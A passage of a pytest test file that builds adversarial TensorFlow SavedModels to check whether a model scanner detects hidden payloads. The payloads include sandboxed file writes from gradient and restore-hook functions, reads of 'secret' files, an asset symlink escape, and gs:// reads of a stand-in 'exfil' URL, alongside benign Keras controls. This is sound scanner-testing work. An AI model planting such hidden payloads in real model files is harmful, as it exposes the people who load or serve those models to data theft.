"""Round 2 of the adversarial models built with TensorFlow 2.21 against `check`'s security scan (`pytest -m tf`).

The payloads hide where round 1 (`test_tf_security_probes.py`) did not look: a gradient registered only in
the function library, a function swapped in by ``api_implements``, a function bound through a ``func``
attr placeholder, a second meta graph for GPU servers, a function hooked on the saver's restore op, a TF1
asset constant read by the served path, a variable assigned a path before a cache or a read, an asset
symlinked out of the model, ``gs://`` paths joined deep or in combinations, a tf.data GraphDef computed at
run time or wrapped in a ``tf.train.Example``, ``RemoteCall`` and the tf.data service, a debug dump baked
in by ``enable_dump_debug_info``. Benign controls are common exports (Keras, Estimator-like TF1, asset
tables re-exported) that touch nothing outside the model.

* `test_check_reports_the_payload`: ``run_checks`` names each payload's capability and when it runs
  (with its op, and the file or URL it touches where the graph holds it), at the severity that follows.
  ``dataset_from_graph_computed`` is a known limitation (a strict xfail).
* `test_benign_control_has_no_security_finding`: the controls give no ``security.`` finding.
* `test_tensorflow_confirms_the_probe`: TensorFlow runs the probe and the payload does what it says.
  Nothing naming ``gs://``, ``grpc://`` or a ``/job:`` is ever run: those graphs are only built.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from helpers.security_lab import (
    Expect,
    Lab,
    Probes,
    Proof,
    Workshop,
    X,
    assert_no_security_finding,
    assert_reports_payload,
    depend,
    fails,
    module,
    reduce_length,
    reduce_sum,
    run_proof,
)

pytestmark = pytest.mark.tf

#: written into graphs, never contacted (an ``.invalid`` name)
BUCKET = "gs://metainspect-probe2.example.invalid"

PROBES = Probes()
probe = PROBES.probe


@pytest.fixture(scope="module")
def workshop(tmp_path_factory: pytest.TempPathFactory) -> Workshop:
    return Workshop(tmp_path_factory.mktemp("probes2"), PROBES)


def spec(tf: Any) -> Any:
    """The signature input of every TF2 probe: a float vector."""
    return tf.TensorSpec([None], tf.float32)


def text_graph_def(tf: Any, secret: Path) -> bytes:
    """A tf.data GraphDef (``DatasetToGraphV2``) whose ``TextLineDataset`` reads ``secret``."""
    return tf.raw_ops.DatasetToGraphV2(input_dataset=tf.data.TextLineDataset(str(secret))._variant_tensor).numpy()


def lines_length(tf: Any, variant: Any) -> Any:
    """The summed length of the lines of the string dataset ``variant`` holds, as a float."""
    return reduce_length(tf, tf.data.experimental.from_variant(variant, tf.TensorSpec([], tf.string)))


def files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# -- hiding places ----------------------------------------------------------------------------------

@probe(Expect("file_write", "serving", "WriteFile", "sandbox/grad_fired.txt"))
def grad_def_symbolic_gradient(lab: Lab, tf: Any) -> Proof:
    """TF1: the served output is ``tf.gradients`` of a ``Defun(grad_func=...)``: a ``SymbolicGradient(f=fwd)`` node.
    TF runs the gradient registered in ``library.gradient`` (fwd -> probe_grad), which no node attr names."""
    from tensorflow.python.framework import function

    v1 = tf.compat.v1
    target = lab.sandbox / "grad_fired.txt"
    with tf.Graph().as_default() as graph:
        @function.Defun(tf.float32, tf.float32, func_name="probe_grad")
        def grad(x: Any, dy: Any) -> Any:
            with tf.control_dependencies([tf.io.write_file(str(target), "fired")]):
                return dy * 2.0

        @function.Defun(tf.float32, grad_func=grad, func_name="probe_forward")
        def forward(x: Any) -> Any:
            return x * 2.0
        x = v1.placeholder(tf.float32, [None], name="x")
        y = tf.identity(tf.gradients(forward(x), x)[0], name="y")
        with v1.Session(graph=graph) as session:
            lab.save_tf1(session, {"x": x}, {"y": y})

    def proof() -> None:
        lab.load_tf1()
        assert target.read_text() == "fired"
    return proof


#: serves a SavedModel (argv[1]) once; proofs needing a fresh TensorFlow run it in a child process
SERVE_ONCE = ("import sys, tensorflow as tf; loaded = tf.saved_model.load(sys.argv[1]); "
              "print(loaded.signatures['serving_default'](x=tf.constant([1.0, 2.0]))['y'].numpy())")


def implements_model(lab: Lab, tf: Any, payload: Callable[[Any], Any]) -> None:
    """The signature calls ``gpu_impl``; ``cpu_impl`` (same ``api_implements``, with ``payload``) is only in the
    library, added as Keras' LSTM adds its variants. On a CPU host Grappler's implementation selector swaps it in."""
    attrs = {"api_implements": "probe2_double_v1"}

    @tf.function(experimental_attributes={**attrs, "api_preferred_device": "GPU"}, autograph=False)
    def gpu_impl(x: Any) -> Any:
        return x * 2.0

    @tf.function(experimental_attributes={**attrs, "api_preferred_device": "CPU"}, autograph=False)
    def cpu_impl(x: Any) -> Any:
        with tf.control_dependencies([payload(x)]):
            return x * 2.0

    def body(mod: Any, x: Any) -> dict[str, Any]:
        cpu_impl.get_concrete_function(spec(tf)).add_to_graph()  # never called
        return {"y": gpu_impl(x)}
    lab.kept.extend([gpu_impl, cpu_impl])
    lab.save_tf2(module(tf, body))


@probe(Expect("file_write", "serving", "WriteFile", "sandbox/impl_fired.txt"))
def api_implements_write(lab: Lab, tf: Any) -> Proof:
    """``WriteFile`` in the never-called implementation Grappler swaps in."""
    target = lab.sandbox / "impl_fired.txt"
    implements_model(lab, tf, lambda x: tf.io.write_file(str(target), "fired"))

    def proof() -> None:
        # in a fresh process: Grappler's choice of implementation is process-wide state that other tests of
        # the TF stage can change, and a TF2 loader in a new process is what a server is
        env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2"}
        run = subprocess.run([sys.executable, "-c", SERVE_ONCE, str(lab.model)], capture_output=True, text=True,
                             env=env, timeout=300, check=False)
        assert run.returncode == 0, run.stderr[-2000:]
        assert "[2. 4.]" in run.stdout and target.read_text() == "fired"
    return proof


@probe(Expect("python", "serving", "EagerPyFunc"))
def api_implements_py(lab: Lab, tf: Any) -> Proof:
    """``py_function`` in the never-called implementation Grappler swaps in."""
    implements_model(lab, tf, lambda x: tf.py_function(lab.callback(), [x], tf.float32))

    def proof() -> None:
        # a fresh process, as a server is (Grappler's choice is process-wide state other tests change): the
        # swapped-in implementation calls Python by its token, which no Python there has registered
        env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2"}
        run = subprocess.run([sys.executable, "-c", SERVE_ONCE, str(lab.model)], capture_output=True, text=True,
                             env=env, timeout=300, check=False)
        assert run.returncode != 0 and "cpu_impl" in run.stderr and "could not find callback" in run.stderr.lower(), \
            run.stderr[-2000:]
    return proof


@probe(Expect("file_write", "serving", "WriteFile", "sandbox/inner_fired.txt"))
def func_attr_placeholder(lab: Lab, tf: Any) -> Proof:
    """TF1: ``PartitionedCall(f={outer_dispatch, attr: {inner: func inner_payload}})``, whose body calls
    ``PartitionedCall(f={placeholder: "inner"})``: ``inner_payload`` is named only in the NameAttrList's attr."""
    from tensorflow.core.framework import types_pb2
    from tensorflow.python.framework import function

    v1 = tf.compat.v1
    target = lab.sandbox / "inner_fired.txt"
    with tf.Graph().as_default() as graph:
        @function.Defun(tf.float32, func_name="inner_payload")
        def inner(x: Any) -> Any:
            with tf.control_dependencies([tf.io.write_file(str(target), "fired")]):
                return x * 2.0
        v1.placeholder(tf.float32, [None], name="x")
        inner.add_to_graph(graph)
    graph_def = graph.as_graph_def()
    outer = graph_def.library.function.add()
    outer.signature.name = "outer_dispatch"
    outer.signature.input_arg.add(name="x", type=types_pb2.DT_FLOAT)
    outer.signature.output_arg.add(name="y", type=types_pb2.DT_FLOAT)
    outer.signature.attr.add(name="inner", type="func")
    call_inner = outer.node_def.add(name="c", op="PartitionedCall", input=["x"])
    call_inner.attr["f"].placeholder = "inner"
    outer.ret["y"] = "c:output:0"
    call = graph_def.node.add(name="call", op="PartitionedCall", input=["x"])
    call.attr["f"].func.name = "outer_dispatch"
    call.attr["f"].func.attr["inner"].func.name = "inner_payload"
    for node in (call_inner, call):
        node.attr["Tin"].list.type.append(types_pb2.DT_FLOAT)
        node.attr["Tout"].list.type.append(types_pb2.DT_FLOAT)
    graph_def.node.add(name="y", op="Identity", input=["call"]).attr["T"].type = types_pb2.DT_FLOAT
    with tf.Graph().as_default() as graph, v1.Session(graph=graph) as session:
        tf.graph_util.import_graph_def(graph_def, name="")
        lab.save_tf1(session, {"x": graph.get_tensor_by_name("x:0")}, {"y": graph.get_tensor_by_name("y:0")})

    def proof() -> None:
        served = lab.load_tf1()
        assert served is not None and served["y"].tolist() == [2.0, 4.0]
        assert target.read_text() == "fired"
    return proof


@probe(Expect("file_write", "serving", "WriteFile", "sandbox/gpu_fired.txt"))
def multi_metagraph_serve_gpu(lab: Lab, tf: Any) -> Proof:
    """Two meta graphs: ``serve`` (clean) and ``serve, gpu`` (what a GPU server loads), whose output needs a write."""
    v1 = tf.compat.v1
    target = lab.sandbox / "gpu_fired.txt"
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [None], name="x")
        builder = v1.saved_model.Builder(str(lab.model))
        builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={
            "serving_default": v1.saved_model.predict_signature_def({"x": x}, {"y": tf.identity(x * 2.0, name="y")})})
    with tf.Graph().as_default():
        x = v1.placeholder(tf.float32, [None], name="x")
        y = tf.identity(depend(tf, tf.io.write_file(str(target), "fired"), x * 2.0), name="y")
        builder.add_meta_graph(["serve", "gpu"], signature_def_map={
            "serving_default": v1.saved_model.predict_signature_def({"x": x}, {"y": y})})
        builder.save()

    def proof() -> None:
        lab.load_tf1()
        assert not target.exists()
        lab.load_tf1(tags=("serve", "gpu"))
        assert target.read_text() == "fired"
    return proof


@probe(Expect("file_write", "load_time", "WriteFile", "sandbox/restore_fired.txt"))
def tf1_restore_hook_function(lab: Lab, tf: Any) -> Proof:
    """TF1: the saver's restore op gets a control input on a ``PartitionedCall`` whose function writes a file."""
    from tensorflow.python.framework import function

    v1 = tf.compat.v1
    target = lab.sandbox / "restore_fired.txt"
    with tf.Graph().as_default(), v1.Session() as session:
        @function.Defun(tf.string, func_name="restore_hook_fn")
        def hook(path: Any) -> Any:
            with tf.control_dependencies([tf.io.write_file(path, "fired")]):
                return tf.constant(0)
        x = v1.placeholder(tf.float32, [None], name="x")
        w = tf.Variable([1.0, 1.0], name="w")
        y = tf.identity(x * w, name="y")
        hook(tf.constant(str(target)), name="hook_call")
        session.run(v1.global_variables_initializer())
        lab.save_tf1(session, {"x": x}, {"y": y})

    def attach(meta: Any) -> None:
        restore = next(n for n in meta.graph_def.node if n.name == meta.saver_def.restore_op_name)
        restore.input.append("^hook_call")
    lab.edit_meta_graph(attach)

    def proof() -> None:
        lab.load_tf1(serve=False)
        assert target.read_text() == "fired"
    return proof


# -- values the scan must follow --------------------------------------------------------------------

def tf1_asset_model(lab: Lab, tf: Any, output: Callable[[Any, Any], Any], init_tables: bool = False) -> Path:
    """TF1: a string placeholder ``x``, an ``ASSET_FILEPATHS`` constant naming ``sandbox/vocab.txt`` (returned)
    and ``y = output(x, asset)``; ``init_tables``: a main op initializes the tables."""
    v1 = tf.compat.v1
    vocab = lab.sandbox / "vocab.txt"
    vocab.write_text("a\nb\n")
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.string, [None], name="x")
        asset = tf.constant(str(vocab), name="vocab_path")
        v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, asset)
        y = tf.identity(output(x, asset), name="y")
        lab.save_tf1(session, {"x": x}, {"y": y}, main_op=v1.tables_initializer() if init_tables else None,
                     assets_collection=v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS))
    return vocab


def text_table(tf: Any, path: Any) -> Any:
    """A table of a vocabulary file's lines to their line numbers."""
    return tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(path, tf.string, -2, tf.int64, -1), -1)


@probe(Expect("file_read", "serving", "ReadFile", "sandbox/vocab.txt"))
def tf1_asset_const_served_read(lab: Lab, tf: Any) -> Proof:
    """TF1: the asset constant (an absolute build path) read by ``ReadFile`` on the served path. The loader feeds
    the ``assets/`` copy only to the main op: a request reads the constant's own path."""
    vocab = tf1_asset_model(lab, tf, lambda x, asset: tf.strings.join([x, tf.io.read_file(asset)]))

    def proof() -> None:
        vocab.write_text("SERVER-FILE\n")
        served = lab.load_tf1(feed=[b"a"])
        assert served is not None and served["y"].tolist() == [b"aSERVER-FILE\n"]  # not assets/vocab.txt
        vocab.unlink()
        fails(tf, lambda: lab.load_tf1(feed=[b"a"]), "sandbox/vocab.txt")
    return proof


# check reports this read at load time, not serving: a table's initializer in the table_initializer
# collection counts as load time (where a main op would run it). Without a main op TF runs it with the
# first request instead. Same severity: accepted.
@probe(Expect("file_read", "load_time", "InitializeTableFromTextFileV2", "sandbox/vocab.txt"))
def tf1_asset_table_lazy_init(lab: Lab, tf: Any) -> Proof:
    """TF1: a table from the asset constant, initialized by the served output (a control input), not by a
    main op: requests read the absolute build path, not ``assets/``."""
    def output(x: Any, asset: Any) -> Any:
        table = text_table(tf, asset)
        with tf.control_dependencies([tf.compat.v1.tables_initializer()]):
            return table.lookup(x)
    vocab = tf1_asset_model(lab, tf, output)

    def proof() -> None:
        vocab.write_text("x\ny\nz\nb\n")
        served = lab.load_tf1(feed=[b"b"])
        assert served is not None and served["y"].tolist() == [3]  # the assets/ copy would give 1
    return proof


@probe(Expect("file_write", "serving", "CacheDatasetV2", "sandbox/cache"))
def tf2_var_cache_assigned(lab: Lab, tf: Any) -> Proof:
    """A ``tf.Variable("")`` (an in-memory cache, as saved) that the signature assigns a path before
    ``Dataset.cache`` of it."""
    path = str(lab.sandbox / "cache")

    def body(mod: Any, x: Any) -> dict[str, Any]:
        mod.p.assign(tf.constant(path))
        return {"y": x + reduce_sum(tf, tf.data.Dataset.range(3).cache(mod.p))}
    lab.save_tf2(module(tf, body, p=tf.Variable("")))

    def proof() -> None:
        lab.serve_tf2()
        assert "cache.index" in files(lab.sandbox)
    return proof


@probe(Expect("file_write", "serving", "CacheDatasetV2"))
def tf2_var_cache_set_method(lab: Lab, tf: Any) -> Proof:
    """``Dataset.cache`` of a ``tf.Variable("")`` that a saved method ``set_path(p)`` lets a client assign."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        return {"y": x + reduce_sum(tf, tf.data.Dataset.range(3).cache(mod.p))}
    mod = module(tf, body, p=tf.Variable(""))

    def set_path(p: Any) -> dict[str, Any]:
        mod.p.assign(p)
        return {"ok": tf.constant(1)}
    mod.set_path = tf.function(set_path, input_signature=[tf.TensorSpec([], tf.string)])
    lab.save_tf2(mod)

    def proof() -> None:
        loaded = tf.saved_model.load(str(lab.model))
        loaded.set_path(tf.constant(str(lab.sandbox / "chosen")))
        loaded.signatures["serving_default"](x=tf.constant(X))
        assert "chosen.index" in files(lab.sandbox)
    return proof


def assigned_path_module(lab: Lab, tf: Any, assigned: str) -> Any:
    """A variable holding ``sandbox/benign.txt``; the signature assigns it ``assigned``, then reads the file it names."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        mod.p.assign(tf.constant(assigned))
        return {"y": x, "c": tf.io.read_file(mod.p)}
    return module(tf, body, p=tf.Variable(str(lab.sandbox / "benign.txt")))


@probe(Expect("network", "serving", "ReadFile", BUCKET + "/exfil"))
def tf2_var_path_assigned_gcs(lab: Lab, tf: Any) -> Proof:
    """The variable's saved value is a local file; the signature assigns a ``gs://`` URL and reads it. Never run:
    the proof serves a local twin (assigns ``other.txt``) to show TF reads the assigned path, not the saved one."""
    lab.save_tf2(assigned_path_module(lab, tf, BUCKET + "/exfil"))
    (lab.sandbox / "benign.txt").write_text("benign\n")
    (lab.sandbox / "other.txt").write_text("assigned\n")
    twin = lab.root / "twin"
    tf.saved_model.save(mod := assigned_path_module(lab, tf, str(lab.sandbox / "other.txt")), str(twin))
    lab.kept.append(mod)

    def proof() -> None:
        served = tf.saved_model.load(str(twin)).signatures["serving_default"](x=tf.constant(X))
        assert served["c"].numpy() == b"assigned\n"
    return proof


@probe(Expect("file_read", "load_time", "InitializeTableFromTextFileV2", "sandbox/outside_secret.txt"))
def asset_symlink_escape(lab: Lab, tf: Any) -> Proof:
    """An asset vocabulary table whose ``assets/vocab.txt`` is replaced, after export, by a symlink to a file
    outside the model (a tarball can carry one): the loader fills the table through the link."""
    vocab = lab.sandbox / "vocab.txt"
    vocab.write_text("a\nb\n")
    lab.save_tf2(module(tf, lambda mod, x: {"y": x + tf.cast(mod.table.lookup(tf.constant("b")), tf.float32)},
                        table=text_table(tf, str(vocab))))
    outside = lab.sandbox / "outside_secret.txt"
    outside.write_text("q\nr\nb\n")
    link = lab.model / "assets" / "vocab.txt"
    link.unlink()
    link.symlink_to(outside)

    def proof() -> None:
        assert lab.serve_tf2()["y"].tolist() == [3.0, 4.0]  # 'b' on line 2 of the outside file (1 in the export)
    return proof


def joined_read(lab: Lab, tf: Any, parts: tuple[str, ...]) -> None:
    """``read_file`` of :data:`BUCKET` joined with each of ``parts`` in turn (one nested ``strings.join`` each)."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        path = tf.constant(BUCKET)
        for part in parts:
            path = tf.strings.join([path, part])
        return {"y": depend(tf, tf.io.read_file(path), x)}
    lab.save_tf2(module(tf, body))


@probe(Expect("network", "serving", "ReadFile", BUCKET + "/a/b/c/d"), proof=False)
def join_depth4_gcs(lab: Lab, tf: Any) -> None:
    """A ``gs://`` URL through 4 nested joins."""
    joined_read(lab, tf, ("/a", "/b", "/c", "/d"))


@probe(Expect("network", "serving", "ReadFile", BUCKET + "/a/b/c"), proof=False)
def join_depth3_gcs_control(lab: Lab, tf: Any) -> None:
    """Control for `join_depth4_gcs`: 3 nested joins."""
    joined_read(lab, tf, ("/a", "/b", "/c"))


@probe(Expect("network", "serving", "ReadFile", BUCKET + "/"), proof=False)
def join_combinations_gcs(lab: Lab, tf: Any) -> None:
    """``fetch(a..f) = read_file(join([a..f]))`` called with a ``gs://`` first part and with a local one:
    64 combinations of constants, more than the scan keeps."""
    @tf.function(autograph=False)
    def fetch(a: Any, b: Any, c: Any, d: Any, e: Any, f: Any) -> Any:
        return tf.io.read_file(tf.strings.join([a, b, c, d, e, f]))

    def body(mod: Any, x: Any) -> dict[str, Any]:
        remote = fetch(tf.constant(BUCKET + "/"), *[tf.constant(f"p{i}/") for i in range(5)])
        local = fetch(tf.constant(str(lab.sandbox) + "/"), *[tf.constant(f"q{i}/") for i in range(5)])
        return {"y": depend(tf, local, depend(tf, remote, x))}
    lab.save_tf2(module(tf, body))
    lab.kept.append(fetch)


@probe(Expect("network", "serving", "ReadFile", BUCKET + "/x"), proof=False)
def computed_gcs_gather(lab: Lab, tf: Any) -> None:
    """``read_file`` of a path picked at run time (``gather``) from a ``gs://`` URL and a local path."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        path = tf.gather(tf.constant([BUCKET + "/x", str(lab.sandbox / "y")]), 0)
        return {"y": depend(tf, tf.io.read_file(path), x)}
    lab.save_tf2(module(tf, body))


def dataset_graph_model(lab: Lab, tf: Any, graph_def: Callable[[], Any]) -> Proof:
    """The served output runs ``DatasetFromGraph`` of ``graph_def()`` (a GraphDef reading ``sandbox/secret.txt``)."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        held = tf.where(tf.size(x) >= 0, graph_def(), "")  # per request: Grappler does not fold DatasetFromGraph
        return {"y": x + lines_length(tf, tf.raw_ops.DatasetFromGraph(graph_def=held))}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        (lab.sandbox / "secret.txt").write_text("much-longer-secret\n")
        assert lab.serve_tf2()["y"].tolist() == [19.0, 20.0]  # read when served: len("much-longer-secret")
    return proof


@probe(Expect("file_read", "serving", None, "sandbox/secret.txt"),
       limitation="a GraphDef computed at run time (DatasetFromGraph of a computed string) cannot be scanned")
def dataset_from_graph_computed(lab: Lab, tf: Any) -> Proof:
    """A tf.data GraphDef stored byte-reversed in a constant and reversed at run time."""
    secret = lab.sandbox / "secret.txt"
    secret.write_text("secret\n")
    blob = text_graph_def(tf, secret)[::-1]
    return dataset_graph_model(lab, tf, lambda: tf.strings.reduce_join(
        tf.reverse(tf.strings.bytes_split(tf.constant(blob)), [0])))


# found without a target: the nested GraphDef's TextLineDataset takes its file name from a call inside the
# nested graph (a flat_map function), and values are not followed across calls inside a nested GraphDef: accepted
@probe(Expect("file_read", "serving", "TextLineDataset"))
def nested_in_example_proto(lab: Lab, tf: Any) -> Proof:
    """A tf.data GraphDef as the bytes feature of a serialized ``tf.train.Example`` constant, parsed on the
    served path."""
    secret = lab.sandbox / "secret.txt"
    secret.write_text("secret\n")
    example = tf.train.Example(features=tf.train.Features(feature={
        "g": tf.train.Feature(bytes_list=tf.train.BytesList(value=[text_graph_def(tf, secret)]))}))
    serialized = example.SerializeToString()
    return dataset_graph_model(lab, tf, lambda: tf.io.parse_single_example(
        tf.constant(serialized), {"g": tf.io.FixedLenFeature([], tf.string)})["g"])


@probe(Expect("network", "serving", "RemoteCall", "/job:worker"), proof=False)
def remote_call_job(lab: Lab, tf: Any) -> None:
    """``RemoteCall`` of a function on another task (``/job:worker``)."""
    @tf.function(input_signature=[spec(tf)], autograph=False)
    def double(x: Any) -> Any:
        return x * 2.0
    function = double.get_concrete_function()
    lab.kept.append(double)
    lab.save_tf2(module(tf, lambda mod, x: {"y": tf.raw_ops.RemoteCall(
        target=tf.constant("/job:worker/replica:0/task:1/device:CPU:0"), args=[x], Tout=[tf.float32], f=function)[0]}))


@probe(Expect("network", "serving", "RegisterDatasetV2", "grpc://localhost:5050"),
       Expect("network", "serving", "DataServiceDatasetV4", "grpc://localhost:5050"), proof=False)
def data_service_localhost(lab: Lab, tf: Any) -> None:
    """``tf.data.experimental.service.distribute`` to a dispatcher (``grpc://``) in the signature."""
    def body(mod: Any, x: Any) -> dict[str, Any]:
        ds = tf.data.Dataset.range(3).apply(tf.data.experimental.service.distribute(
            processing_mode="parallel_epochs", service="grpc://localhost:5050"))
        return {"y": x + reduce_sum(tf, ds)}
    with warnings.catch_warnings():
        # distribute reads the dataset's options in graph mode, which TF warns of
        warnings.filterwarnings("ignore", "To make it possible to preserve tf.data options", UserWarning)
        lab.save_tf2(module(tf, body))


# -- other APIs -------------------------------------------------------------------------------------

@probe(Expect("file_write", "serving", "DebugIdentityV2", "sandbox/dump"))
def debug_dump_enabled_save(lab: Lab, tf: Any) -> Proof:
    """``enable_dump_debug_info`` active while tracing and saving: the saved functions keep ``DebugIdentityV2``
    ops with a ``file://`` debug URL."""
    dump = lab.sandbox / "dump"
    tf.debugging.experimental.enable_dump_debug_info(str(dump), tensor_debug_mode="FULL_HEALTH",
                                                     circular_buffer_size=-1)
    try:
        lab.save_tf2(module(tf, lambda mod, x: {"y": tf.nn.relu(x * 3.0)}))
    finally:
        tf.debugging.experimental.disable_dump_debug_info()
    shutil.rmtree(dump, ignore_errors=True)

    def proof() -> None:
        # in a fresh process: serving this model in the one that enabled and disabled the dump crashes TensorFlow
        env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2"}
        run = subprocess.run([sys.executable, "-c", SERVE_ONCE, str(lab.model)], capture_output=True, text=True,
                             env=env, timeout=300, check=False)
        assert run.returncode == 0, run.stderr[-2000:]
        assert dump.is_dir() and any(p.name.startswith("tfdbg_events") for p in dump.iterdir())
    return proof


@probe(Expect("file_write", "serving", "MergeV2Checkpoints", "sandbox/stolen"),
       Expect("file_write", "serving", "SaveV2"))
def ckpt_write_serving(lab: Lab, tf: Any) -> Proof:
    """``tf.train.Checkpoint(v=...).write(path)`` in the signature."""
    path = str(lab.sandbox / "stolen")

    def body(mod: Any, x: Any) -> dict[str, Any]:
        return {"y": depend(tf, tf.train.Checkpoint(v=mod.v).write(path), x + mod.v)}
    lab.save_tf2(module(tf, body, v=tf.Variable([1.0, 2.0])))
    for written in lab.sandbox.glob("stolen*"):
        written.unlink()

    def proof() -> None:
        lab.serve_tf2()
        assert "stolen.index" in files(lab.sandbox)
    return proof


@probe(Expect("file_read", "serving", "CSVDatasetV2", "sandbox/data.csv"))
def make_csv_dataset_served(lab: Lab, tf: Any) -> Proof:
    """``make_csv_dataset`` of ``sandbox/*.csv`` in the signature (the glob resolved when tracing)."""
    csv = lab.sandbox / "data.csv"
    csv.write_text("a,b\n1,2\n3,4\n")

    def body(mod: Any, x: Any) -> dict[str, Any]:
        ds = tf.data.experimental.make_csv_dataset(str(lab.sandbox / "*.csv"), batch_size=1, column_names=["a", "b"],
                                                   column_defaults=[0, 0], header=True, num_epochs=1, shuffle=False)
        total = ds.reduce(tf.constant(0, tf.int32), lambda acc, row: acc + tf.reduce_sum(row["a"]))
        return {"y": x + tf.cast(total, tf.float32)}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        csv.write_text("a,b\n10,2\n30,4\n")
        assert lab.serve_tf2()["y"].tolist() == [41.0, 42.0]  # read when served
    return proof


@probe(Expect("file_write", "serving", "SnapshotDatasetV2", "sandbox/snap"))
def snapshot_in_interleave(lab: Lab, tf: Any) -> Proof:
    """``Dataset.snapshot`` in an ``interleave`` function of the served pipeline."""
    path = lab.sandbox / "snap"

    def body(mod: Any, x: Any) -> dict[str, Any]:
        ds = tf.data.Dataset.range(1).interleave(lambda i: tf.data.Dataset.range(3).snapshot(str(path)),
                                                 cycle_length=1)
        return {"y": x + reduce_sum(tf, ds)}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        assert not path.exists()
        lab.serve_tf2()
        assert path.is_dir()
    return proof


@probe(Expect("file_read", "serving", "MatchingFiles", "sandbox/*.txt"))
def matching_files_case_branch(lab: Lab, tf: Any) -> Proof:
    """``switch_case`` on a constant index whose branch 1 globs ``sandbox/*.txt``."""
    pattern = str(lab.sandbox / "*.txt")

    def body(mod: Any, x: Any) -> dict[str, Any]:
        n = tf.switch_case(tf.constant(1), [lambda: tf.constant(0), lambda: tf.size(tf.io.matching_files(pattern))])
        return {"y": x + tf.cast(n, tf.float32)}
    lab.save_tf2(module(tf, body))

    def proof() -> None:
        for i in range(3):
            (lab.sandbox / f"f{i}.txt").write_text("x")
        assert lab.serve_tf2()["y"].tolist() == [4.0, 5.0]  # 3 files counted
    return proof


@probe(Expect("file_write", "serving", "DatasetToTFRecord", "sandbox/out.tfrecord"))
def tfrecord_writer_saved_method(lab: Lab, tf: Any) -> Proof:
    """A saved method (not a signature) writing a TFRecord file with ``TFRecordWriter``."""
    target = lab.sandbox / "out.tfrecord"
    mod = module(tf, lambda m, x: {"y": x * 2.0})

    def export_records(rows: Any) -> Any:
        tf.data.experimental.TFRecordWriter(str(target)).write(tf.data.Dataset.from_tensor_slices(rows))
        return tf.constant(True)
    mod.export_records = tf.function(export_records, input_signature=[tf.TensorSpec([None], tf.string)])
    lab.save_tf2(mod)
    target.unlink(missing_ok=True)

    def proof() -> None:
        loaded = tf.saved_model.load(str(lab.model))
        loaded.export_records(tf.constant(["a", "b"]))
        assert target.is_file()
    return proof


@probe(Expect("file_write", "serving", "WriteFile"))
def strings_format_writefile(lab: Lab, tf: Any) -> Proof:
    """``write_file`` to ``strings.format('sandbox/out_{}.txt', size(x))``: a path computed per request."""
    template = str(lab.sandbox / "out_{}.txt")
    lab.save_tf2(module(tf, lambda mod, x: {
        "y": depend(tf, tf.io.write_file(tf.strings.format(template, tf.size(x)), "fired"), x)}))
    (lab.sandbox / "out_2.txt").unlink(missing_ok=True)

    def proof() -> None:
        lab.serve_tf2()
        assert (lab.sandbox / "out_2.txt").read_text() == "fired"
    return proof


@probe(Expect("file_write", "serving", "WriteFile", "sandbox/map_fired.txt"))
def dataset_map_built_elsewhere(lab: Lab, tf: Any) -> Proof:
    """A dataset whose map function writes a file, built in one tf.function and reduced in the signature."""
    target = lab.sandbox / "map_fired.txt"

    @tf.function(autograph=False)
    def make() -> Any:
        return tf.data.Dataset.range(2).map(lambda v: depend(tf, tf.io.write_file(str(target), "fired"), v))
    lab.save_tf2(module(tf, lambda mod, x: {"y": x + reduce_sum(tf, make())}))
    lab.kept.append(make)
    target.unlink(missing_ok=True)

    def proof() -> None:
        lab.serve_tf2()
        assert target.read_text() == "fired"
    return proof


# -- benign controls --------------------------------------------------------------------------------

@probe()
def b_keras_seq_tf_saved_model_save(lab: Lab, tf: Any) -> Proof:
    """A trained Keras Sequential (Dense, BatchNormalization, Dropout) saved by ``tf.saved_model.save``."""
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
                              keras.layers.BatchNormalization(), keras.layers.Dropout(0.2), keras.layers.Dense(1)])
    model.compile("adam", "mse")
    model.fit(tf.ones([8, 4]), tf.ones([8, 1]), epochs=1, verbose=0)
    tf.saved_model.save(model, str(lab.model))

    def proof() -> None:
        loaded = tf.saved_model.load(str(lab.model))  # held: its functions reference its variables weakly
        outputs = loaded.signatures["serving_default"](tf.ones([2, 4]))
        assert list(outputs) == ["output_0"]
    return proof


@probe()
def b_keras_functional_export(lab: Lab, tf: Any) -> Proof:
    """A functional Keras model (adapted Normalization, Hashing + Embedding) exported by ``Model.export``."""
    import keras

    num, cat = keras.Input((3,), name="num"), keras.Input((1,), dtype="string", name="cat")
    norm = keras.layers.Normalization()
    norm.adapt(tf.constant([[1.0, 2.0, 3.0], [2.0, 3.0, 4.0]]))
    emb = keras.layers.Flatten()(keras.layers.Embedding(8, 2)(keras.layers.Hashing(8)(cat)))
    out = keras.layers.Dense(1, activation="sigmoid")(keras.layers.Concatenate()([norm(num), emb]))
    model = keras.Model([num, cat], out)
    model.export(str(lab.model), verbose=False)
    lab.kept.append(model)

    def proof() -> None:
        loaded = tf.saved_model.load(str(lab.model))  # held: its functions reference its variables weakly
        loaded.serve([tf.ones([2, 3]), tf.constant([["a"], ["b"]])])
    return proof


@probe()
def b_keras_stringlookup_list(lab: Lab, tf: Any) -> Proof:
    """Keras ``StringLookup`` with an in-code vocabulary, exported by ``Model.export``."""
    import keras

    inputs = keras.Input((1,), dtype="string")
    index = keras.layers.StringLookup(vocabulary=["a", "b", "c"])(inputs)
    out = keras.layers.Dense(1)(keras.layers.Flatten()(keras.layers.Embedding(5, 2)(index)))
